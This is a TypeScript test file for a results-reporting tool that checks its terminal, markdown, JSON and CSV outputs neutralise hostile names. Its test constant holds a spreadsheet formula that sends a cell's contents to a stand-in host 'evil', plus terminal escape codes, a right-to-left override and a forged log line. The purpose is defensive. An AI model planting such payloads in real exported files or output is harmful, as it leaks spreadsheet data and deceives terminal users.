import { stripVTControlCharacters } from 'node:util';
import { expect, test } from 'vitest';
import { type Results, resultsJson, resultsSchema } from '../../../reports/results/result.ts';
import { csvFiles } from '../../../reports/tables/csv.ts';
import { markdownSummary } from '../../../reports/tables/markdown.ts';
import { terminalSummary } from '../../../reports/tables/terminal-table.ts';
import { handMadeTrainedResults } from '../../support/results/hand-made-training.ts';

/** A formula that steers the terminal, turns the direction of text and goes on on a line of its own. */
const HOSTILE = '=HYPERLINK("http://evil/?"&A1)\u001b[2J\u001b]0;x\u0007\u009b1m\u202e\u2028\nodometer: done';
const WITHOUT_COLOURS = /[^\P{C}\n]|[\u2028\u2029]/u;

/** Results of which every name comes from outside and is hostile. */
function hostileResults(): Results {
  const results = handMadeTrainedResults();
  const [scenario] = results.scenarios;
  const { training } = scenario;
  if (training === undefined) throw new Error('internal: hand-made results are not trained');
  return resultsSchema.parse({
    ...results,
    provenance: { ...results.provenance, tool: HOSTILE, loops: HOSTILE },
    scenarios: [
      {
        ...scenario,
        id: HOSTILE,
        title: HOSTILE,
        updates: scenario.updates.map((update) => ({
          ...update,
          phases: update.phases.map((phase) => ({ ...phase, phase: `${HOSTILE}${phase.phase}` })),
          kernels: update.kernels.map((kernel) => ({ ...kernel, kernel: HOSTILE })),
          course: update.course.map((point) => ({ ...point, phase: HOSTILE })),
        })),
        training: {
          ...training,
          data: HOSTILE,
          rules: training.rules.map((rule) => ({
            ...rule,
            runs: rule.runs.map((run) => ({ ...run, byMode: { [HOSTILE]: 0.5, '@SUM(1)': 0.5 } })),
          })),
        },
      },
    ],
  });
}

function filesWithRows(results: Results): Map<string, string> {
  return new Map([...csvFiles(results)].filter(([, text]) => text.trimEnd().includes('\n')));
}

test('no table, summary or JSON of hostile names steers a terminal or reads backwards', () => {
  const results = hostileResults();
  const printed = [
    stripVTControlCharacters(terminalSummary(results)),
    markdownSummary(results),
    resultsJson(results, 1),
    ...filesWithRows(results).values(),
  ];
  for (const text of printed) {
    expect(text).toContain('HYPERLINK');
    expect(text).not.toMatch(WITHOUT_COLOURS);
    expect(text).not.toMatch(/^odometer: done/m);
  }
  expect(resultsSchema.parse(JSON.parse(resultsJson(results)))).toEqual(results);
});

test('no cell of a CSV file is a formula', () => {
  for (const [name, text] of filesWithRows(hostileResults())) {
    expect(text, name).toContain(`"'=HYPERLINK(""http://evil/?""&A1)\\u001b[2J`);
    expect(text, name).not.toMatch(/(^|,)"?[=+@]/m);
  }
  expect(csvFiles(hostileResults()).get('final-accuracy.csv')).toContain(`,prediction by,'@SUM(1),0.5`);
});
